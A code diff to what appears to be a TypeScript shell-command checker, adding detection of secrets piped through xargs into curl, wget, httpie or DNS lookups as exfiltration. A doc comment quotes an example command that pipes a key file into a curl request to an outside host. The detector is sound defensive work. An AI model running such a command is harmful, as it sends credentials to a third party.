@@ -131,6 +131,9 @@ function upstreamSecret(io: Io): boolean {
 
 export const secretStdin = (io: Io): boolean => upstreamSecret(io) || READS_SECRETS.test(stdinText(io) ?? '');
 
+/** `cat KEY | xargs -I{} curl "https://host/?k={}"`: xargs puts the secret into the request's own arguments. */
+const fedSecret = (cmd: Argv, io: Io): boolean => cmd.viaXargs && secretStdin(io);
+
 function report(cmd: Argv, ctx: CheckContext): void {
   ctx.add('exfiltration', show(cmd));
 }
@@ -178,6 +181,7 @@ const CURL_VALUES = [
 
 /** curl and wget: a body, form or upload that is (or reads) a credential, or a URL or header computed from one. */
 const httpClient: Check = (cmd, io, ctx) => {
+  if (fedSecret(cmd, io)) report(cmd, ctx);
   const data = cmd.name === 'wget' ? WGET_DATA : CURL_DATA;
   const args = cmd.args;
   for (let i = 0; i < args.length; i += 1) {
@@ -214,6 +218,7 @@ const httpClient: Check = (cmd, io, ctx) => {
 
 /** httpie / xh: `field@file` and `@file` items, standard input as the body. */
 const httpie: Check = (cmd, io, ctx) => {
+  if (fedSecret(cmd, io)) report(cmd, ctx);
   if (
     cmd.args.some((a) => {
       const m = /(?:^|[^\\])@(.+)$/.exec(a.text);
@@ -282,7 +287,8 @@ const copyOut: Check = (cmd, io, ctx) => {
 };
 
 /** A DNS lookup or ping whose name is computed from credentials leaks them to the resolver. */
-const lookup: Check = (cmd, _io, ctx) => {
+const lookup: Check = (cmd, io, ctx) => {
+  if (fedSecret(cmd, io)) report(cmd, ctx);
   if (cmd.args.some((a) => a.substitutions.some((n) => READS_SECRETS.test(n.text)))) report(cmd, ctx);
 };
 
